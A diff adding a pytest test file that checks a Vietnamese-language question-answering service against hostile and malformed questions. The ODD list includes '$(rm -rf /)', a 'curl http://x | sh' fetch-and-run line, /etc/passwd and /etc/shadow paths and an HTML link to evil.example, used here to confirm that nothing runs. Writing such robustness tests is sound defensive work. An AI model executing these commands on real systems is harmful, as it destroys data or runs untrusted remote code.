@@ -1,0 +1,69 @@
+"""Hostile and odd questions: each gets an answer, a 'not found' or one clear BadQuestion — never a crash."""
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from embeddings.errors import BadQuestion
+from retrieval.answer import MAX_QUESTION_CHARS, clean_question
+from retrieval.service import QAService
+
+ODD = [
+    "<a href='http://evil.example'>click</a> thu ngân sách?",
+    "*_bold_* `code` [link](http://x) thu ngân sách đạt bao nhiêu",
+    "../../etc/passwd",
+    "/etc/shadow",
+    "$(rm -rf /); echo pwned",
+    "`reboot` && curl http://x | sh",
+    "Thu ngân sách 🤔🤔 đạt bao nhiêu? 💰",
+    "thu\x00ngân\x07sách\x1b[31m đạt",
+    "Доход бюджета 预算收入 ميزانية thu ngân sách",
+    "n" * 999,
+]
+
+
+@pytest.fixture(scope="module")
+def service(tmp_path_factory: pytest.TempPathFactory) -> QAService:
+    from retrieval.config import Settings
+    from tests.conftest import SEEDS
+
+    tmp = tmp_path_factory.mktemp("q")
+    return QAService.open(Settings(cache_dir=tmp / "c", index_dir=tmp / "i", model="hashing", corpus=(SEEDS,)))
+
+
+@pytest.mark.parametrize("question", ODD)
+def test_odd_questions_are_answered_or_declined(service: QAService, question: str, tmp_path: Path) -> None:
+    before = sorted(p.name for p in Path.cwd().iterdir())
+    answer = service.ask(question)
+    assert answer.answered in (True, False)
+    assert all(q.text for q in answer.quotes)
+    assert sorted(p.name for p in Path.cwd().iterdir()) == before  # nothing touched the file system
+
+
+@pytest.mark.parametrize(("question", "reason"), [
+    ("", "empty"), ("   \n\t ", "empty"), ("\x00\x01\u200b", "empty"),
+    ("x" * 100_000, "100,000 characters"), ("🙂🙂🙂", "no letters"), ("?!...", "no letters"),
+])
+def test_unaskable_questions_get_a_clear_reason(service: QAService, question: str, reason: str) -> None:
+    with pytest.raises(BadQuestion, match=reason):
+        service.ask(question)
+
+
+def test_cleaning_keeps_the_words_and_drops_control_characters() -> None:
+    assert clean_question("  thu\x00ngân \u200bsách\n\nđạt ") == "thu ngân sách đạt"
+    assert len(clean_question("a" * MAX_QUESTION_CHARS)) == MAX_QUESTION_CHARS
+
+
+@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(st.text(max_size=300))
+def test_random_unicode_never_crashes_the_question_path(service: QAService, text: str) -> None:
+    try:
+        answer = service.ask(text)
+    except BadQuestion as exc:
+        assert str(exc)
+        return
+    for q in answer.quotes:
+        assert q.text in {s.text for s in service.index.sentences}
